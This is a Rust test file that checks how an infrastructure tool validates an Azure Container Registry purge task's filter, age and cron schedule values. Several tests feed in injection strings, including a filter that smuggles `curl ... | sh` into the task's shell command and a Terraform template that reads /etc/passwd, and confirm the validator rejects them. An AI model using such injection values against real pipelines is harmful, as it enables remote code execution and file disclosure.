//! `[container_registry.cleanup]`: the values that reach the task's YAML, its shell command and its timer are
//! checked at load — `filter` is `acr purge --filter`, `ago` is `acr purge --ago`, `schedule` is a cron
//! expression ACR tasks accept — with the exact error (file, line, column, message, help).

use infra::stack::Stack;

/// stacks/prod.toml as it was before issue 10 made its registry's purge task impossible (a private registry: ACR
/// tasks no longer bypass network rules): public network access is back on (and export with it, the provider's
/// defaults) and the webhook's place holds the weekly purge task, so the cleanup task's values are still checked
/// on a full stack.
fn prod_with_cleanup() -> String {
    let prod = include_str!("../../stacks/prod.toml");
    let start = prod.find("# Tells CI/CD about").expect("prod's webhook");
    let end = start + prod[start..].find("\n\n").expect("end of the webhook") + 2;
    let cleanup = "# Weekly: keep the newest 10 tags per repository, delete untagged manifests.\n[container_registry.cleanup]\nname = \"purge-untagged\"\nschedule = \"0 1 * * Sun\"\nkeep = 10\nuntagged = true\n\n";
    let text = format!("{}{cleanup}{}", &prod[..start], &prod[end..]);
    // The registry's "# Private: ..." comment and its two settings, public_network_access_enabled = false and
    // export_policy_enabled = false.
    let private = text
        .find("# Private: no public network access")
        .expect("prod's private registry");
    let settings = "export_policy_enabled = false\n";
    let end = text.find(settings).expect("prod's export policy") + settings.len();
    format!("{}{}", &text[..private], &text[end..])
}
const CLEANUP: &str = "keep = 10\nuntagged = true\n";

/// The load error of `stacks/prod.toml` with `extra` lines added to `[container_registry.cleanup]` (after
/// `untagged`), or with `schedule` replaced.
fn error_with(extra: &str, schedule: Option<&str>) -> String {
    assert_eq!(prod_with_cleanup().matches(CLEANUP).count(), 1);
    let mut text = prod_with_cleanup().replacen(CLEANUP, &format!("{CLEANUP}{extra}"), 1);
    if let Some(s) = schedule {
        text = text.replacen(r#"schedule = "0 1 * * Sun""#, &format!("schedule = {s}"), 1);
    }
    crate::stack_schema::invalid(&text);
    match Stack::from_toml("stacks/prod.toml", &text) {
        Ok(_) => panic!("the stack should be rejected: {extra} {schedule:?}"),
        Err(e) => e.to_string(),
    }
}

fn accepts(extra: &str, schedule: Option<&str>) -> bool {
    let mut text = prod_with_cleanup().replacen(CLEANUP, &format!("{CLEANUP}{extra}"), 1);
    if let Some(s) = schedule {
        text = text.replacen(r#"schedule = "0 1 * * Sun""#, &format!("schedule = {s}"), 1);
    }
    let ok = Stack::from_toml("stacks/prod.toml", &text).is_ok();
    if ok {
        crate::stack_schema::valid(&text);
    } else {
        crate::stack_schema::invalid(&text);
    }
    ok
}

const FILTER_HELP: &str = r#"  help: a filter is <repository-regex>:<tag-regex> (acr purge --filter), e.g. ".*:.*" or "fastapi-app:^pr-.*"; no quotes, control characters, "${", "%{" or "{{""#;
const AGO_HELP: &str =
    r#"  help: ago is days and/or a Go duration (acr purge --ago), e.g. "0d" (any age), "30d", "2d3h6m" or "90m""#;
const CRON_HELP: &str = r#"  help: write five fields, minute hour day-of-month month day-of-week (UTC), e.g. "0 1 * * Sun"; each is *, a number, a range a-b, a list a,b or a step */n; months and days may be names (Jan, Sun)"#;

#[test]
fn hostile_filter_is_rejected_not_rendered() {
    assert_eq!(
        error_with(r#"filter = "${file(\"/etc/passwd\")}:.*""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "${{file(\"/etc/passwd\")}}:.*" contains "${{", which Terraform would read as a template interpolation
{FILTER_HELP}"#
        )
    );
}

#[test]
fn filter_template_directive_quote_and_newline() {
    assert_eq!(
        error_with(r#"filter = "%{ if true }x%{ endif }:.*""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "%{{ if true }}x%{{ endif }}:.*" contains "%{{", which Terraform would read as a template directive
{FILTER_HELP}"#
        )
    );
    assert_eq!(
        error_with(r#"filter = "x'; curl https://example.invalid | sh #:.*""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "x'; curl https://example.invalid | sh #:.*" contains the quote '\'', which would end the shell word in the task's command
{FILTER_HELP}"#
        )
    );
    assert_eq!(
        error_with(r#"filter = "app:.*\nsteps: []""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "app:.*\nsteps: []" contains the control character '\n'
{FILTER_HELP}"#
        )
    );
    assert_eq!(
        error_with(r#"filter = "{{.Run.ID}}:.*""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "{{{{.Run.ID}}}}:.*" contains "{{{{", which ACR Tasks would read as a Go template action
{FILTER_HELP}"#
        )
    );
}

#[test]
fn filter_is_repository_colon_tag() {
    assert_eq!(
        error_with(r#"filter = "fastapi-app""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "fastapi-app" has 0 repository/tag separators (':' outside "(?flags:" groups), not 1
{FILTER_HELP}"#
        )
    );
    assert_eq!(
        error_with(r#"filter = "a:b:c""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "a:b:c" has 2 repository/tag separators (':' outside "(?flags:" groups), not 1
{FILTER_HELP}"#
        )
    );
    assert_eq!(
        error_with(r#"filter = ":.*""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = ":.*" has no repository regex before ':'
{FILTER_HELP}"#
        )
    );
    assert_eq!(
        error_with(r#"filter = "app:(unclosed""#, None),
        format!(
            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "app:(unclosed" has a tag regex that does not compile: error: unclosed group
{FILTER_HELP}"#
        )
    );
}

#[test]
fn filters_acr_purge_accepts_are_accepted() {
    for f in [
        ".*:.*",
        "fastapi-app:^pr-.*",
        "hello-world:\\\\w*test\\\\w*",
        "team/api:(?i:RC)-[0-9]+",
        "(?:a|b):v[[:digit:]]+",
        "samples/.*:^[0-9a-f]{7}$",
    ] {
        assert!(accepts(&format!("filter = \"{f}\"\n"), None), "{f}");
    }
}

#[test]
fn ago_is_days_and_go_duration() {
    assert_eq!(
        error_with(r#"ago = "1 week""#, None),
        format!(
            r#"stacks/prod.toml:38:7: container_registry.cleanup.ago = "1 week" is not [<days>d][<Go duration>]
{AGO_HELP}"#
        )
    );
    for bad in ["", "3h2d", "-1d", "7", "1w", "d", "1d1d", "1.5d", "+3h"] {
        assert!(
            !accepts(&format!("ago = \"{bad}\"\n"), None),
            "{bad:?} should be rejected"
        );
    }
    assert_eq!(
        error_with(r#"ago = "106752d""#, None),
        format!(
            r#"stacks/prod.toml:38:7: container_registry.cleanup.ago = "106752d" is longer than acr purge can count (about 292 years)
{AGO_HELP}"#
        )
    );
    for good in [
        "0d", "30d", "2d3h6m", "30m", "90m", "1.5h", "0", "1h30m10s", "500ms", "106751d",
    ] {
        assert!(
            accepts(&format!("ago = \"{good}\"\n"), None),
            "{good:?} should be accepted"
        );
    }
}

#[test]
fn schedule_is_a_real_cron_expression() {
    assert_eq!(
        error_with("", Some(r#""61 * * * *""#)),
        format!(
            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "61 * * * *" is not a cron expression ACR tasks accept: minute 61 is out of range 0-59
{CRON_HELP}"#
        )
    );
    assert_eq!(
        error_with("", Some(r#""weekly""#)),
        format!(
            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "weekly" is not a cron expression ACR tasks accept: has 1 fields, not 5
{CRON_HELP}"#
        )
    );
    assert_eq!(
        error_with("", Some(r#""0 1 * * Sun 2026""#)),
        format!(
            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "0 1 * * Sun 2026" is not a cron expression ACR tasks accept: has 6 fields, not 5
{CRON_HELP}"#
        )
    );
    assert_eq!(
        error_with("", Some(r#""0 1 * Sun *""#)),
        format!(
            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "0 1 * Sun *" is not a cron expression ACR tasks accept: month field has "Sun"
{CRON_HELP}"#
        )
    );
    assert_eq!(
        error_with("", Some(r#""0 1 * * 7""#)),
        format!(
            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "0 1 * * 7" is not a cron expression ACR tasks accept: day-of-week 7 is out of range 0-6
{CRON_HELP}"#
        )
    );
    for bad in [
        "* * * * * *",
        "0 1 ? * Sun",
        "0 1 L * *",
        "0 1 * * 5#3",
        "@weekly",
        "0 24 * * *",
        "0 0 32 * *",
        "0 0 * 13 *",
        "*/0 * * * *",
        "5-1 * * * *",
        "0 1 * * Sund",
    ] {
        assert!(!accepts("", Some(&format!("\"{bad}\""))), "{bad:?} should be rejected");
    }
    for good in [
        "0 1 * * Sun",
        "0 12 * * Mon-Fri",
        "30 9 * * 1-5",
        "*/15 * * * *",
        "0 0 1 Jan,Jul *",
        "0 3 * * sunday",
        "0 0 1-7 * Mon",
        "0 22 * * SAT",
        "0,30 8-18/2 * * *",
    ] {
        assert!(accepts("", Some(&format!("\"{good}\""))), "{good:?} should be accepted");
    }
}
